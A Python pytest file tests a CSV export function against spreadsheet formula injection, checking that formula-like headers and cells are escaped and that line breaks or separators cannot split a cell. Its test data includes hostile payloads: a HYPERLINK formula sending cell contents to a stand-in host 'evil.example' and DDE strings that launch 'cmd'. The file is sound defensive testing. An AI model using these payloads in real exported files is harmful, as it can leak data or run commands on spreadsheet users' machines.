"""Spreadsheets compute what begins like a formula: nothing that a run found may."""

from __future__ import annotations

import csv
import io
import re

import pytest

from director.runs.exported_data import export_rows_as_csv

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "|cmd",
    "-x(1)",
    "+49 30 A1",
    "-1 -1",
    "-1,2:3",
    "- -",
    "-1;2",
]
# What a program may take for the end of a cell or a line when it stands outside of quotes.
SEPARATORS = ["a\r=1+1", "a\n=1+1", "a;=1+1", "a\t=1+1", 'a",=1+1', "a,=1+1", "a\u2028=1+1"]


@pytest.mark.attack(
    "A page names the columns of a table with formulas",
    must="each name is written as a text",
    tries=17,
)
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_column_that_is_a_formula_is_a_text(formula: str) -> None:
    """The head of the file is as hostile as its cells."""
    ((name,), (cell,)) = csv.reader(
        io.StringIO(export_rows_as_csv([{formula: formula}]), newline="")
    )
    assert name == cell == f"'{formula}"


@pytest.mark.attack(
    "A cell breaks out of its place with a line end or another separator",
    must="it stands in quotes, whole",
    tries=7,
)
@pytest.mark.parametrize("text", SEPARATORS)
def test_a_cell_cannot_begin_another(text: str) -> None:
    """Programs differ in what they split at; nothing of it is outside of quotes."""
    written = export_rows_as_csv([{"a": text}])
    ((_,), (cell,)) = csv.reader(io.StringIO(written, newline=""))
    assert cell == text
    assert "=" not in re.sub(r'"(?:[^"]|"")*"', "", written)


@pytest.mark.attack(
    "Honest numbers and texts beside the formulas",
    must="they are written as they are: numbers stay numbers, also below zero",
)
def test_honest_values_stay_as_they_are() -> None:
    """A defused number would be a text in the sheet."""
    row = {
        "a": -5,
        "b": "-5",
        "c": "+1.5e3",
        "d": -0.25,
        "e": "plain",
        "f": "a=b",
        "g": None,
        "h": [1],
    }
    assert export_rows_as_csv([row]) == 'a,b,c,d,e,f,g,h\n-5,-5,+1.5e3,-0.25,plain,"a=b",,1\n'
    texts = ["-", "---", "-12.50", "-1,234.50", "-1.234,50 €", "+49 30 123456", "-5 %", "-1'000"]
    written = csv.reader(
        io.StringIO(export_rows_as_csv([{"a": text} for text in texts]), newline="")
    )
    assert [cell for (cell,) in written][1:] == texts
